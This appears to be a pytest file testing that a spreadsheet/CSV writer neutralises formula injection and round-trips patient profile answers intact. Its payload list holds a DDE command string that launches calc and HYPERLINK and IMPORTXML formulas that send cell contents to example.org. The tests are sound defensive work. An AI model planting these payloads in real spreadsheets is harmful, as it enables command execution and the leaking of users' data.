"""Writing: no cell of ours acts as a formula, and every text and answer comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from matcher.core.rulebook import Rulebook
from matcher.records.spreadsheets.writing import plain_cell, safe_cell, write_profiles, write_rows
from matcher.schemas.profiles import profile_json, read_answers
from tests.records.spreadsheets.tables import drafts
from tests.simulation.people import complete_person
from tests.simulation.test_orders import world

PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1,"look")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
    "A1",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "−")
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\ufeff",
    "'",
    "''",
    "x;",
    "x, ",
    "x\n",
    "x\t",
)
STRINGS = [before + sign + one for before in BEFORE for sign in SIGNS for one in PAYLOADS]
HARMLESS = [
    "ER+",
    "HER2-",
    "A-117",
    "a;b",
    "BRCA1=mutation;ATM=none@2026-03",
    "it's",
    "",
    "'",
    "50",
]


def acts(cell: str) -> bool:
    """Whether a spreadsheet program may take the cell for a formula, blanks cut off or not."""
    return cell.strip().lstrip("\ufeff")[:1] in set(SIGNS) or cell[:1] in {"\t", "\r", "\n"}


def test_there_are_enough_strings() -> None:
    assert len(set(STRINGS)) >= 200


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_acts_whatever_the_program_takes_for_the_delimiter(delimiter: str) -> None:
    text = "".join(write_rows([text, "x"] for text in STRINGS))
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    assert len(cells) >= len(STRINGS)
    assert [cell for cell in cells if acts(cell)] == []


def test_the_strings_would_act_without_care() -> None:
    assert sum(map(acts, STRINGS)) > len(STRINGS) // 2


@pytest.mark.parametrize("text", HARMLESS)
def test_what_cannot_act_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", STRINGS[::7])
def test_odd_texts_come_back(text: str) -> None:
    assert safe_cell(text) != text
    assert plain_cell(safe_cell(text)) == text


@given(st.text(alphabet="ab'=+-@;, \t\r\n＝\ufeff\u00a0", max_size=12))
def test_every_text_comes_back(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text
    assert not acts(safe_cell(text))


def test_profiles_come_back_to_the_same_answers(rulebook: Rulebook) -> None:
    people = {
        f"A-{number}": complete_person(world(0).catalogue.finder, number) for number in range(8)
    }
    pairs = [(code, profile_json(one)["answers"]) for code, one in people.items()]
    found = drafts(rulebook, "".join(write_profiles(pairs, rulebook)))
    assert [one.code for one in found] == list(people)
    for draft in found:
        assert read_answers(dict(draft.answers), rulebook) == people[draft.code or ""]


@pytest.mark.parametrize("country", ["NA", "NO", "SI", "US"])
def test_a_country_whose_code_means_something_else_comes_back(
    rulebook: Rulebook, country: str
) -> None:
    (draft,) = drafts(rulebook, "".join(write_profiles([("A-1", {"country": country})], rulebook)))
    assert draft.answers == {"country": country}


def test_a_code_that_begins_like_a_comment_comes_back(rulebook: Rulebook) -> None:
    pairs = [("#12", {"er": "positive"}), ("A-1", {"er": "negative"})]
    found = drafts(rulebook, "".join(write_profiles(pairs, rulebook)))
    assert [one.code for one in found] == ["#12", "A-1"]


def test_every_form_of_an_answer_comes_back(rulebook: Rulebook) -> None:
    given_answers = {
        "er": "declined",
        "cancer": ["breast", "unknown"],
        "treatments": ["surgery"],
        "treatments_now": ["none"],
        "considering": "declined",
        "age": 50,
        "pr": "unknown",
        "tumor": {
            "ESR1": {"result": "none", "on": "2026-03"},
            "PTEN": "declined",
            "ATM": "unknown",
        },
    }
    (draft,) = drafts(rulebook, "".join(write_profiles([("A-1", given_answers)], rulebook)))
    read = read_answers(dict(draft.answers), rulebook)
    assert read == read_answers({**given_answers, "main_cancer": "breast"}, rulebook)
